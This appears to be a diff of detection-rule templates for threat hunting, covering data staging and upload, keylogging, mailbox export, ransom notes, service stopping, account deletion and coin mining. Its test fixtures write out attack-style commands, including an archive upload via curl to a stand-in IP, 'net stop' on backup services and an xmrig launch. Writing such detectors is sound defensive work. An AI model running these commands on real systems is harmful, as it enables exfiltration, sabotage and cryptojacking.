@@ -8,9 +8,7 @@ export const impact: readonly QueryTemplate[] = [
     name: 'Files archived with a password or from a share',
     kind: 'process',
     severity: 'medium',
-    where: {
-      command: String.raw`\b(rar|winrar|7za?|7zg)(\.exe)?"?\s+a\s.*(-h?p\S+|\\\\\S+\\)|\bzip\s.*-(e|p)\s|tar\s+-?c\S*\s+/(tmp|dev/shm|var/tmp)/`,
-    },
+    where: String.raw`\b(rar|winrar|7za?|7zg)(\.exe)?"?\s+a\s.*(-h?p\S+|\\\\\S+\\)|\bzip\s.*-(e|p)\s|tar\s+-?c\S*\s+/(tmp|dev/shm|var/tmp)/`,
     benign: 'users sending something confidential: one archive to one recipient',
     match: ['rar a -hpS3cret -m5 C:\\Users\\Public\\f.rar C:\\finance', 'tar czf /tmp/f.tgz /srv/data'],
     noMatch: ['7z x archive.7z', 'tar xzf app.tgz'],
@@ -21,9 +19,7 @@ export const impact: readonly QueryTemplate[] = [
     name: 'Screen, clipboard, or keyboard recorded from the command line',
     kind: 'process',
     severity: 'medium',
-    where: {
-      command: String.raw`copyfromscreen|get-clipboard|\bscreencapture\s|psr(\.exe)?"?\s.*/start|\b(xwd|scrot|import\s+-window\s+root|nircmd.*savescreenshot)\b|getasynckeystate|xinput\s+test|start-keylogger`,
-    },
+    where: String.raw`copyfromscreen|get-clipboard|\bscreencapture\s|psr(\.exe)?"?\s.*/start|\b(xwd|scrot|import\s+-window\s+root|nircmd.*savescreenshot)\b|getasynckeystate|xinput\s+test|start-keylogger`,
     benign: 'users taking a screenshot',
     match: ['powershell $g.CopyFromScreen(0,0,0,0,$s)', 'screencapture -x /tmp/s.png'],
     noMatch: ['snippingtool.exe'],
@@ -34,9 +30,7 @@ export const impact: readonly QueryTemplate[] = [
     name: 'Mailbox exported or mail forwarded from the command line',
     kind: 'process',
     severity: 'high',
-    where: {
-      command: String.raw`new-mailboxexportrequest|new-inboxrule.*(forward|redirect|delete)|set-mailbox.*forwarding|(copy|xcopy|robocopy|rar|7z)\b.*\.(pst|ost)\b`,
-    },
+    where: String.raw`new-mailboxexportrequest|new-inboxrule.*(forward|redirect|delete)|set-mailbox.*forwarding|(copy|xcopy|robocopy|rar|7z)\b.*\.(pst|ost)\b`,
     benign: 'mail administrators on request of the legal department',
     match: ['powershell New-MailboxExportRequest -Mailbox ceo -FilePath \\\\FS-01\\C$\\x.pst'],
     noMatch: ['powershell Get-Mailbox -Identity ada'],
@@ -47,9 +41,7 @@ export const impact: readonly QueryTemplate[] = [
     name: 'Files uploaded from the command line',
     kind: 'process',
     severity: 'high',
-    where: {
-      command: String.raw`\b(rclone|megacmd|megasync|restic|azcopy|winscp|filezilla|pscp|s5cmd)(\.exe)?"?\s.*(copy|sync|move|put|cp|backup|/command|-pw)|curl(\.exe)?"?\s.*(-t|--upload-file|-f\s+\S*@|--data-binary\s+@)\s*\S+|\bftp(\.exe)?"?\s+-s:|\bscp\s+-r?\s*\S+\s+\S+@\d+\.\d+\.\d+\.\d+:`,
-    },
+    where: String.raw`\b(rclone|megacmd|megasync|restic|azcopy|winscp|filezilla|pscp|s5cmd)(\.exe)?"?\s.*(copy|sync|move|put|cp|backup|/command|-pw)|curl(\.exe)?"?\s.*(-t|--upload-file|-f\s+\S*@|--data-binary\s+@)\s*\S+|\bftp(\.exe)?"?\s+-s:|\bscp\s+-r?\s*\S+\s+\S+@\d+\.\d+\.\d+\.\d+:`,
     benign: 'backups and deployments under their own account to a known address',
     match: ['rclone.exe copy C:\\finance mega:f --transfers 20', 'curl -T /tmp/f.tgz ftp://203.0.113.7/'],
     noMatch: ['rclone version', 'curl https://api.example/health'],
@@ -65,7 +57,6 @@ export const impact: readonly QueryTemplate[] = [
     where: {},
     having: (sql) => ({
       columns: `round(coalesce(sum(try_cast(${sql('sent')} AS BIGINT)), 0) / 1e6) AS count`,
-      condition: 'true',
     }),
     benign: 'a video call, or an announced new backup target',
     match: [],
@@ -77,9 +68,7 @@ export const impact: readonly QueryTemplate[] = [
     name: 'File with the name of a ransom note or an encrypted file written',
     kind: 'file',
     severity: 'critical',
-    where: {
-      path: String.raw`(how[_ -]?to[_ -]?(decrypt|recover|restore)|decrypt[_ -]?(instructions?|files?)|recover[_ -]?(files?|data)|restore[_ -]?(my[_ -]?)?files|ransom|read[_ -]?me[_ -]?(to|for)[_ -]?(decrypt|recover)).*\.(txt|html?|hta|png|rtf)$|\.(locked|encrypted|crypt|lockbit|akira|blackcat|conti|ryuk|phobos|medusa|play|royal|cl0p|clop)$`,
-    },
+    where: String.raw`(how[_ -]?to[_ -]?(decrypt|recover|restore)|decrypt[_ -]?(instructions?|files?)|recover[_ -]?(files?|data)|restore[_ -]?(my[_ -]?)?files|ransom|read[_ -]?me[_ -]?(to|for)[_ -]?(decrypt|recover)).*\.(txt|html?|hta|png|rtf)$|\.(locked|encrypted|crypt|lockbit|akira|blackcat|conti|ryuk|phobos|medusa|play|royal|cl0p|clop)$`,
     benign: 'a saved article about ransomware: one file on one host',
     match: ['C:\\finance\\HOW_TO_DECRYPT_FILES.txt', 'D:\\share\\budget.xlsx.lockbit'],
     noMatch: ['C:\\docs\\README.txt', 'C:\\docs\\recipe.html'],
@@ -90,9 +79,7 @@ export const impact: readonly QueryTemplate[] = [
     name: 'Database, backup, or virtualization services stopped',
     kind: 'process',
     severity: 'high',
-    where: {
-      command: String.raw`(net1?(\.exe)?"?\s+stop|sc(\.exe)?"?\s+(stop|config)|taskkill(\.exe)?"?\s.*/(f|im)|stop-service)\s.*(sql|oracle|veeam|backup|vss|exchange|msexchange|vmware|vmms|acronis|mysql|postgres|quickbooks)|esxcli\s+vm\s+process\s+kill|vim-cmd\s+vmsvc/power\.off`,
-    },
+    where: String.raw`(net1?(\.exe)?"?\s+stop|sc(\.exe)?"?\s+(stop|config)|taskkill(\.exe)?"?\s.*/(f|im)|stop-service)\s.*(sql|oracle|veeam|backup|vss|exchange|msexchange|vmware|vmms|acronis|mysql|postgres|quickbooks)|esxcli\s+vm\s+process\s+kill|vim-cmd\s+vmsvc/power\.off`,
     benign: 'announced maintenance of one product',
     match: [
       'net stop "SQL Server (MSSQLSERVER)" /y',
@@ -107,9 +94,7 @@ export const impact: readonly QueryTemplate[] = [
     name: 'Account deleted or disabled, or host shut down, from the command line',
     kind: 'process',
     severity: 'medium',
-    where: {
-      command: String.raw`\bnet1?(\.exe)?"?\s+user\s.*/(delete|active:no)|disable-(ad|local)account|remove-(aduser|localuser)|\buserdel\s|passwd\s+-l\s|shutdown(\.exe)?"?\s.*/(r|s)\s.*/f|stop-computer\s.*-force`,
-    },
+    where: String.raw`\bnet1?(\.exe)?"?\s+user\s.*/(delete|active:no)|disable-(ad|local)account|remove-(aduser|localuser)|\buserdel\s|passwd\s+-l\s|shutdown(\.exe)?"?\s.*/(r|s)\s.*/f|stop-computer\s.*-force`,
     benign: 'offboarding of employees, and restarts after patching',
     match: ['net user ada /delete', 'shutdown /s /t 0 /f'],
     noMatch: ['net user ada', 'shutdown /a'],
@@ -120,9 +105,7 @@ export const impact: readonly QueryTemplate[] = [
     name: 'Coin miner started',
     kind: 'process',
     severity: 'high',
-    where: {
-      command: String.raw`stratum(\+tcp|\+ssl)?://|\b(xmrig|xmr-stak|minerd|cpuminer|nbminer|t-rex|lolminer|phoenixminer|kinsing|kdevtmpfsi)\b|--donate-level|randomx`,
-    },
+    where: String.raw`stratum(\+tcp|\+ssl)?://|\b(xmrig|xmr-stak|minerd|cpuminer|nbminer|t-rex|lolminer|phoenixminer|kinsing|kdevtmpfsi)\b|--donate-level|randomx`,
     benign: 'none on a company machine',
     match: ['./xmrig -o pool.example:3333 -u 4A --donate-level 1'],
     noMatch: ['python train.py --level 1'],
@@ -133,9 +116,7 @@ export const impact: readonly QueryTemplate[] = [
     name: 'DNS query for a mining pool',
     kind: 'dns',
     severity: 'high',
-    where: {
-      query: String.raw`(^|\.)(minexmr|supportxmr|nanopool|moneroocean|hashvault|2miners|ethermine|f2pool|nicehash|c3pool|herominers)\.\w+(\.\w+)?$`,
-    },
+    where: String.raw`(^|\.)(minexmr|supportxmr|nanopool|moneroocean|hashvault|2miners|ethermine|f2pool|nicehash|c3pool|herominers)\.\w+(\.\w+)?$`,
     benign: 'users reading about mining in a browser',
     match: ['pool.supportxmr.com'],
     noMatch: ['pool.example'],
